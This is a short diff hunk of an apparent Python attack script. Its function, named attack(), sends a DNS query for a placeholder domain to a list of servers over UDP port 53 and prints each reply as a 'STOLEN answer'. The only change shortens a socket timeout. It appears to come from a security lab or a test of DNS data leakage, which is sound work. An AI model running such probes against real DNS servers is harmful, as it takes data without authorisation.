@@ -23,7 +23,7 @@ def attack():
     for server in servers:
         try:
             with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
-                client.settimeout(0.5)
+                client.settimeout(0.3)
                 client.sendto(question('secret.example.org'), (server, 53))
                 print(f'STOLEN answer: {client.recv(512)!r}', flush=True)
         except OSError as error:
